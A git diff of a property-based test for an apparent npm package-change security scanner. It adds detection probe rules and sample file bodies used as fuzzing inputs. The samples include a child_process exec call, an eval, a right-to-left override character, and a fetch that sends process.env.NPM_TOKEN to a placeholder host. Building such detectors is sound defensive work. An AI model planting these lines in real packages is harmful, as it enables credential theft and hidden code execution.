@@ -11,8 +11,8 @@ import type { CaseAbout, CaseFile, RuleCase } from '../../src/rules/cases.ts'
 import { loadPack } from '../../src/rules/load.ts'
 import type { ChosenBaseline, Road } from '../../src/scan/assess.ts'
 import { assess } from '../../src/scan/assess.ts'
-import { toReleases } from '../../src/scan/cases.ts'
 import { readPackFiles } from '../../src/sources/pack-files.ts'
+import { releasesOf } from '../support/case-releases.ts'
 
 const now = Date.parse('2026-11-01T12:00:00Z')
 const hour = 3_600_000
@@ -62,6 +62,24 @@ const probes: readonly (readonly [when: string, find: string])[] = [
   ['change.patches.exists(p, p.status == "removed")', 'change.patches'],
   ['change.patches.exists(p, p.status != "kept" && p.changesInstall)', 'change.patches'],
   ['size(change.patches) == 0', '[change.package]'],
+  ['change.capabilities.exists(c, c.status == "added" && c.name == "shell")', 'change.capabilities'],
+  ['change.capabilities.exists(c, c.status == "changed" && c.reach == "install")', 'change.capabilities'],
+  [
+    'change.capabilities.exists(c, c.status != "removed" && c.name == "eval" && c.reach == "import")',
+    '[change.package]',
+  ],
+  ['change.capabilities.exists(c, c.reachBefore == "import")', 'change.capabilities'],
+  ['change.arguments.exists(a, a.status == "added" && !a.resolved)', 'change.arguments'],
+  ['change.arguments.exists(a, a.status == "removed")', 'change.arguments.filter(a, a.status == "removed")'],
+  [
+    'change.flows.exists(f, f.status == "added" && f.source == "secret")',
+    'change.flows.filter(f, f.status == "added")',
+  ],
+  ['change.disguises.exists(d, d.status != "kept" && d.files > d.filesBefore)', 'change.disguises'],
+  ['change.indicators.exists(i, i.status == "added" && i.kind == "host")', 'change.indicators'],
+  ['!change.indicators.exists(i, i.status == "added")', '[change.package]'],
+  ['change.unreadable.exists(u, u.status == "added")', 'change.unreadable.filter(u, u.status == "added")'],
+  ['change.unreadable.exists(u, u.status == "changed" && u.reach == "none")', 'change.unreadable'],
 ]
 
 const probePack = [
@@ -95,7 +113,17 @@ const rules = [...core.rules, ...loadPack(probePack, 'nothing').rules]
 const specs = ['^1.0.0', '^2.0.0', 'npm:other@1', 'github:eve/tiny#0123456789', 'http://files.example.test/a.tgz']
 const long = `// ${'x'.repeat(3000)}`
 const hooks = '{ "hooks": { "SessionStart": [{ "command": "node a.js" }] } }'
-const bodies = ['module.exports = 1', "require('./b.js')", "require('young')", '// nothing', long, '\x7fELF\0', hooks]
+const codes = [
+  "require('child_process').exec(command)",
+  'eval(a)',
+  'function (',
+  "fetch('https://a.example.test/x', { body: process.env.NPM_TOKEN })",
+  '// \u202e turned around',
+]
+const bodies = [
+  ...['module.exports = 1', "require('./b.js')", "require('young')", '// nothing', long, '\x7fELF\0', hooks],
+  ...codes,
+]
 const paths = [
   ...['a.js', 'b.js', 'package.md', 'binding.gyp', 'c.node', '.claude/settings.json', 'A.js'],
   ...['node_modules/b/package.json', 'vendor/package.json'],
@@ -172,9 +200,9 @@ test('lazy and eager judging agree', { timeout: 120_000 }, async () => {
   })
   await fc.assert(
     fc.asyncProperty(example, async ({ before, older, ancient, anchored, after, about, sound, probe }) => {
-      const { candidate, baseline } = toReleases(toCase(before, after, about))
-      const fallback = toReleases(toCase(older, after, about)).baseline
-      const oldest = toReleases(toCase(ancient, after, about)).baseline
+      const { candidate, baseline } = releasesOf(toCase(before, after, about))
+      const fallback = releasesOf(toCase(older, after, about)).baseline
+      const oldest = releasesOf(toCase(ancient, after, about)).baseline
       const road: Road = {
         chosen: [choose(baseline, sound), choose(fallback, true)],
         anchor: anchored ? choose(oldest, true) : 'none',
